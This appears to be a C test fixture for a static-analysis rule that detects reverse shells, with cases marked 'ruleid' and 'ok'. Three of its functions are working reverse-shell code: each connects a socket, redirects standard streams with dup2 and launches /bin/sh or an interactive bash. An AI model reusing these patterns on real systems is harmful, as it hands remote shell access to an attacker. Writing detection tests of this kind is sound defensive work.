#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

void check(struct sockaddr_in *address) {
    int link = socket(AF_INET, SOCK_STREAM, 0);
    connect(link, (struct sockaddr *)address, sizeof *address);
    dup2(link, 0);
    dup2(link, 1);
    // ruleid: execution/reverse-shell-c
    execve("/bin/sh", NULL, NULL);
}

int checkList(struct sockaddr_in *address) {
    int link = socket(AF_INET, SOCK_STREAM, 0);
    connect(link, (struct sockaddr *)address, sizeof *address);
    dup2(link, STDIN_FILENO);
    dup2(link, STDOUT_FILENO);
    // ruleid: execution/reverse-shell-c
    execl("/bin/bash", "bash", "-i", NULL);
    return 0;
}

void checkSystem(struct sockaddr_in *address, int link) {
    connect(link, (struct sockaddr *)address, sizeof *address);
    dup2(link, 2);
    // ruleid: execution/reverse-shell-c
    system("/bin/sh -i");
}

void pipeline(int from) {
    dup2(from, 0);
    // ok: execution/reverse-shell-c
    execl("/bin/sh", "sh", "-c", "sort", NULL);
}

void build(void) {
    // ok: execution/reverse-shell-c
    execlp("make", "make", NULL);
}

void greet(int link, struct sockaddr *address) {
    // ok: execution/reverse-shell-c
    connect(link, address, sizeof *address);
    write(link, "hello", 5);
}

void shell(void) {
    // ok: execution/reverse-shell-c
    execl("/bin/sh", "sh", NULL);
}
